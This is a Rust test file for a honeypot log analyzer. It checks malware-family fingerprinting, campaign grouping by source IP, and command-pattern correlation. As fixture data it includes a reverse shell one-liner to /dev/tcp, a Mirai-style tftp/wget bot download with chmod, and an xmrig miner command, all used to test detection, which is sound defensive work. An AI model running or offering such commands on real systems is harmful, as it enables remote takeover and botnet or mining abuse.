//! Tests for the enhanced analyzer's correlation features: malware family
//! fingerprints, campaign grouping and command-pattern correlation.

use xkippo::enhanced_log_analyzer::EnhancedLogAnalyzer;
use xkippo::helpers::risk_activities;
use xkippo::log_analyzer::LogAnalyzer;
use xkippo::models::Session;
use xkippo::session_manager::SessionManager;
use xkippo::settings::Config;
use xkippo::store::Store;

fn session_with_commands(id: &str, src_ip: &str, commands: &[&str]) -> Session {
    let a = LogAnalyzer::new();
    let config = Config::default();
    let mut store = Store::new(&config).unwrap();
    let mgr = SessionManager::new(&config).unwrap();
    let connect = format!(
        r#"{{"eventid":"cowrie.session.connect","timestamp":"2024-01-01T00:00:00Z","session":"{}","src_ip":"{}"}}"#,
        id, src_ip
    );
    mgr.process_log_entry(&mut store, &a.parse_log_entry(&connect).unwrap())
        .unwrap();
    for (i, c) in commands.iter().enumerate() {
        let line = format!(
            r#"{{"eventid":"cowrie.command.input","timestamp":"2024-01-01T00:00:0{}Z","session":"{}","input":"{}"}}"#,
            (i + 1) % 10,
            id,
            c
        );
        mgr.process_log_entry(&mut store, &a.parse_log_entry(&line).unwrap())
            .unwrap();
    }
    store.get_session(id).unwrap().clone()
}

#[test]
fn malware_families_are_fingerprinted() {
    let cfg = Config::default();
    let e = EnhancedLogAnalyzer::new(&cfg);
    let mirai = session_with_commands(
        "m",
        "1.1.1.1",
        &["busybox tftp -g host", "wget http://x/bot", "chmod +x bot"],
    );
    assert_eq!(e.detect_malware_family(&mirai).as_deref(), Some("Mirai-like"));
    let miner = session_with_commands("x", "1.1.1.1", &["./xmrig -o pool"]);
    assert_eq!(e.detect_malware_family(&miner).as_deref(), Some("Crypto Miner"));
    let shell = session_with_commands(
        "r",
        "1.1.1.1",
        &["bash -c 'sh -i >& /dev/tcp/1.2.3.4/9 0>&1'"],
    );
    assert_eq!(e.detect_malware_family(&shell).as_deref(), Some("Reverse Shell"));
    let clean = session_with_commands("c", "1.1.1.1", &["ls", "uptime"]);
    assert_eq!(e.detect_malware_family(&clean), None);
}

#[test]
fn campaigns_group_by_source_address() {
    let cfg = Config::default();
    let e = EnhancedLogAnalyzer::new(&cfg);
    let sessions = vec![
        session_with_commands("a1", "9.9.9.9", &["ls"]),
        session_with_commands("b1", "8.8.8.8", &["id"]),
        session_with_commands("a2", "9.9.9.9", &["whoami"]),
        session_with_commands("c1", "7.7.7.7", &["id"]),
    ];
    let campaigns = e.identify_campaigns(&sessions);
    assert_eq!(campaigns.len(), 1);
    assert_eq!(campaigns[0].0, "9.9.9.9");
    let ids: Vec<&str> = campaigns[0].1.iter().map(|s| s.id.as_str()).collect();
    assert_eq!(ids, vec!["a1", "a2"]);
}

#[test]
fn command_patterns_correlate_first_tokens() {
    let cfg = Config::default();
    let e = EnhancedLogAnalyzer::new(&cfg);
    let sessions = vec![
        session_with_commands("a", "1.1.1.1", &["wget http://x/a", "ls"]),
        session_with_commands("b", "2.2.2.2", &["wget http://y/b"]),
        session_with_commands("c", "3.3.3.3", &["curl http://z"]),
    ];
    let groups = e.correlate_command_patterns(&sessions);
    assert_eq!(groups.len(), 1);
    assert_eq!(groups[0].0, "wget");
    assert_eq!(groups[0].1, vec!["a".to_string(), "b".to_string()]);
}

#[test]
fn risk_activity_labels() {
    let quiet = session_with_commands("q", "1.1.1.1", &[]);
    assert_eq!(risk_activities(&quiet), "None");
    let busy = session_with_commands("b", "1.1.1.1", &["ls"]);
    assert_eq!(risk_activities(&busy), "Commands");
    let many: Vec<&str> = (0..11).map(|_| "ls").collect();
    let chatty = session_with_commands("t", "1.1.1.1", &many);
    assert_eq!(risk_activities(&chatty), "Many cmds");
}
